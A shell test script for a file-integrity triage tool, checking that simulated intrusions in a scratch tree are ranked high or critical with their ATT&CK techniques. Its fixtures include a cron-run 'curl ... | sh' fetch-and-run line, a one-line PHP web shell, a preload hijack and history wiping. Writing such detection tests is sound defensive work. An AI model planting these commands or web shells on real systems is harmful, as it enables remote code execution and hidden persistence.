#!/bin/bash
# t2010: the triage rules on a real tree, with the default policy: what
# intruders do (MITRE ATT&CK techniques for Linux) is ranked high or
# critical with its technique, start-up files pass their severity on to
# what they name, and what useradd -m does is explained, not alarmed.
. "$(dirname "$0")/lib.sh"

POLICY="$CS_SRCDIR/etc/default.policy"

# finding PATH: the JSON line of PATH's finding (fails if none).
finding() {
	grep "^{\"type\":\"finding\",\"path\":\"$1\"," r.json
}

mkdir -p tree/etc/cron.d tree/etc/skel tree/lib tree/usr/bin \
    tree/usr/local/bin tree/srv/tools tree/var/www/html/uploads \
    tree/home/alice/.ssh tree/var/log
chmod 755 tree/usr/bin
printf 'ls\n' >tree/usr/bin/ls
chmod 755 tree/usr/bin/ls
printf '# ~/.bashrc\nalias ll="ls -l"\n' >tree/etc/skel/.bashrc
printf '# ~/.profile\n. ~/.bashrc\n' >tree/etc/skel/.profile
printf 'ls\ncd /srv\nmysql -p secret\n' >tree/home/alice/.bash_history
printf ': 1:0;ls\n' >tree/home/alice/.zsh_history
printf '<html></html>\n' >tree/var/www/html/index.html

test_expect_success 'baseline, then what an intruder does' '
	"$CUSTOS" baseline -q -o base.cbl tree &&
	printf "/lib/libevil.so\n" >tree/etc/ld.so.preload &&
	printf "\177ELF\2\1\1\0" >tree/lib/libevil.so &&
	printf "*/5 * * * * root sh /srv/tools/update.sh\n" \
	    >tree/etc/cron.d/update &&
	printf "curl -s http://192.0.2.1/x | sh\n" >tree/srv/tools/update.sh &&
	chmod 644 tree/srv/tools/update.sh &&
	printf "<?php system(\$_GET[\"c\"]); ?>\n" \
	    >tree/var/www/html/uploads/img.php &&
	chmod g+w tree/usr/bin &&
	: >tree/home/alice/.bash_history &&
	rm tree/home/alice/.zsh_history &&
	ln -s /dev/null tree/home/alice/.zsh_history &&
	printf "%s\n" "-----BEGIN OPENSSH PRIVATE KEY-----" \
	    >tree/home/alice/.ssh/id_ed25519 &&
	chmod 644 tree/home/alice/.ssh/id_ed25519 &&
	: what useradd -m does &&
	mkdir tree/home/bob &&
	cp -p tree/etc/skel/.bashrc tree/etc/skel/.profile tree/home/bob/ &&
	test_expect_code 5 "$CUSTOS" check -q --allow-unsigned \
	    --policy "$POLICY" -b base.cbl --format json >r.json &&
	test_expect_code 5 "$CUSTOS" check -q --allow-unsigned \
	    --policy "$POLICY" -b base.cbl >r.txt
'

test_expect_success 'a preload list and the new library it names: both critical' '
	finding /etc/ld.so.preload >f &&
	test_grep "\"severity\":\"critical\"" f &&
	test_grep "\"T1574.006\"" f &&
	finding /lib/libevil.so >f &&
	test_grep "\"severity\":\"critical\"" f &&
	test_grep "\"related\":\"/etc/ld.so.preload\"" f &&
	test_grep "^    via:   named by /etc/ld.so.preload$" r.txt &&
	test_grep "^    why:   \[T1574.006\] dynamic loader preload list" r.txt
'

test_expect_success 'a cron file and the script it names: high' '
	finding /etc/cron.d/update >f &&
	test_grep "\"severity\":\"high\".*\"T1053.003\"" f &&
	finding /srv/tools/update.sh >f &&
	test_grep "\"severity\":\"high\"" f &&
	test_grep "\"T1053.003\"" f &&
	test_grep "\"related\":\"/etc/cron.d/update\"" f
'

test_expect_success 'a web shell under /var/www: high' '
	finding /var/www/html/uploads/img.php >f &&
	test_grep "\"severity\":\"high\".*\"T1505.003\"" f
'

test_expect_success 'a directory on the PATH made group-writable: high' '
	finding /usr/bin >f &&
	test_grep "\"severity\":\"high\".*\"T1222.002\"" f
'

test_expect_success 'history emptied, and linked to /dev/null: high' '
	finding /home/alice/.bash_history >f &&
	test_grep "\"severity\":\"high\".*\"T1070.003\"" f &&
	finding /home/alice/.zsh_history >f &&
	test_grep "\"severity\":\"high\".*\"T1070.003\"" f
'

test_expect_success 'a private key added readable by all: high' '
	finding /home/alice/.ssh/id_ed25519 >f &&
	test_grep "\"severity\":\"high\".*\"T1552.004\"" f
'

test_expect_success 'the JSON report pairs each reason with its technique' '
	finding /var/www/html/uploads/img.php >f &&
	test_grep "\"reasons\":\[\"script or program under a web root (web shell)\"\],\"techniques\":\[\"T1505.003\"\]" f &&
	finding /home/bob >f &&
	test_grep "\"severity\":\"low\".*\"T1136.001\"" f
'

test_expect_success 'skeleton copies in a new home are low' '
	finding /home/bob/.bashrc >f &&
	test_grep "\"copy_of\":\"/etc/skel/.bashrc\"" f &&
	test_grep "\"severity\":\"low\"" f &&
	test_grep "copy of /etc/skel/.bashrc (made by useradd -m)" f &&
	finding /home/bob/.profile >f &&
	test_grep "\"severity\":\"low\"" f
'

test_expect_success 'every intrusion is high or critical' '
	for p in /etc/ld.so.preload /lib/libevil.so /etc/cron.d/update \
	    /srv/tools/update.sh /var/www/html/uploads/img.php /usr/bin \
	    /home/alice/.bash_history /home/alice/.zsh_history \
	    /home/alice/.ssh/id_ed25519; do
		finding "$p" | grep -E "\"severity\":\"(high|critical)\"" ||
		    return 1
	done
'

test_done
